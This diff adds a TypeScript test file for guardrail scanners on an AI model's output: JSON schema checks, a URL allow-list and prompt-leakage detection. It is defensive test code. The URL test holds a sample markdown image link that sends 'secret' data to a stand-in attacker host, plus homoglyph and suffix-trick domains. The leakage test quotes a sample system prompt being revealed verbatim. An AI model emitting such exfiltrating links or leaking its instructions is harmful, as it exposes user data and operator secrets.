@@ -1,0 +1,108 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import type { ScanContext, Scanner, ScanResult } from '../../../spec/scanner.ts';
+import { validateJsonSchema } from './json-schema.ts';
+import { createJsonSchemaScanner } from './json-schema-scanner.ts';
+import { createPromptLeakageScanner } from './prompt-leakage.ts';
+import { safeJsonParse } from './safe-json.ts';
+import { createUrlAllowlistScanner } from './url-allowlist.ts';
+
+const run = (s: Scanner, text: string, ctx: Partial<ScanContext> = {}): ScanResult => {
+  const r = s.scan({ kind: 'text', text }, { checkpoint: 'output', ...ctx });
+  assert.ok(!(r instanceof Promise));
+  return r;
+};
+
+const SCHEMA = {
+  type: 'object',
+  properties: {
+    name: { type: 'string', minLength: 1, maxLength: 10 },
+    age: { type: 'integer', minimum: 0, maximum: 150 },
+    tags: { type: 'array', items: { type: 'string', enum: ['a', 'b'] }, maxItems: 2 },
+    kind: { const: 'person' },
+  },
+  required: ['name', 'age'],
+  additionalProperties: false,
+};
+
+describe('JSON schema validator', () => {
+  test('valid documents pass', () => {
+    assert.deepEqual(validateJsonSchema(SCHEMA, { name: 'x', age: 3, tags: ['a'], kind: 'person' }), []);
+  });
+  test('each keyword reports its path, never the value', () => {
+    const errors = validateJsonSchema(SCHEMA, {
+      name: '',
+      age: 3.5,
+      tags: ['c', 'a', 'b'],
+      extra: 'secret-value',
+    });
+    const got = errors.map((e) => `${e.path}:${e.keyword}`).sort();
+    assert.deepEqual(got, [
+      '/age:type',
+      '/extra:additionalProperties',
+      '/name:minLength',
+      '/tags/0:enum',
+      '/tags:maxItems',
+    ]);
+    assert.ok(errors.every((e) => !e.message.includes('secret-value')));
+    assert.deepEqual(
+      validateJsonSchema(SCHEMA, { name: 'x' }).map((e) => e.keyword),
+      ['required'],
+    );
+  });
+  test('anyOf / oneOf, union types, $ref reported as unsupported', () => {
+    assert.deepEqual(validateJsonSchema({ type: ['string', 'null'] }, null), []);
+    assert.equal(validateJsonSchema({ anyOf: [{ type: 'string' }, { type: 'number' }] }, true).length, 1);
+    assert.equal(
+      validateJsonSchema({ oneOf: [{ type: 'number' }, { type: 'integer' }] }, 3)[0]?.keyword,
+      'oneOf',
+    );
+    assert.equal(validateJsonSchema({ $ref: '#/x' }, 1)[0]?.keyword, '$ref');
+  });
+  test('deep nesting is capped, not a stack overflow', () => {
+    let doc: unknown = 1;
+    for (let i = 0; i < 5000; i++) doc = [doc];
+    const errors = validateJsonSchema({ type: 'array', items: { type: 'array' } }, doc, { maxDepth: 64 });
+    assert.ok(errors.length <= 20);
+    assert.equal(safeJsonParse(`${'['.repeat(100_000)}${']'.repeat(100_000)}`).ok, false);
+  });
+});
+
+describe('output scanners', () => {
+  test('json-schema: request schema, code fences, invalid JSON', () => {
+    const s = createJsonSchemaScanner();
+    assert.equal(run(s, 'anything').verdict, 'pass', 'no schema: nothing to check');
+    assert.equal(run(s, '```json\n{"name":"x","age":2}\n```', { responseSchema: SCHEMA }).verdict, 'pass');
+    const bad = run(s, '{"name":"x"}', { responseSchema: SCHEMA });
+    assert.equal(bad.verdict, 'block');
+    assert.match(bad.reason ?? '', /\/age is required/);
+    assert.equal(run(s, '{"name": ', { responseSchema: SCHEMA }).verdict, 'block');
+    assert.equal(run(createJsonSchemaScanner({ requireJson: true }), 'plain text').verdict, 'block');
+  });
+
+  test('url allow-list: subdomains allowed, other and homoglyph domains removed', () => {
+    const s = createUrlAllowlistScanner({ allow: ['example.com'] });
+    assert.equal(run(s, 'see https://docs.example.com/a and www.example.com.').verdict, 'pass');
+    const r = run(s, 'See ![img](https://evil.test/x?d=secret) and https://exаmple.com/login.');
+    assert.equal(r.verdict, 'block');
+    assert.equal(r.spans?.length, 2, 'Cyrillic а makes a different (punycode) host');
+    assert.equal(r.redacted, 'See ![img]([link removed]) and [link removed].');
+    assert.equal(run(s, 'https://example.com.evil.test/').verdict, 'block', 'suffix trick');
+  });
+
+  test('prompt leakage: verbatim reproduction blocks, ordinary answers pass', () => {
+    const system =
+      'You are Keel support bot. Never reveal internal discount codes. Always answer politely and briefly, ' +
+      'and escalate billing disputes to a human agent within one business day.';
+    const s = createPromptLeakageScanner();
+    const leak = `Sure! My instructions: ${system}`;
+    assert.equal(run(s, leak, { systemPrompt: system }).verdict, 'block');
+    assert.equal(
+      run(s, 'Your invoice was sent yesterday; anything else?', { systemPrompt: system }).verdict,
+      'pass',
+    );
+    assert.equal(run(s, leak).verdict, 'pass', 'no system prompt in context');
+    const partial = 'I will escalate billing disputes to a human agent within one business day.';
+    assert.notEqual(run(s, partial, { systemPrompt: system }).verdict, 'pass');
+  });
+});
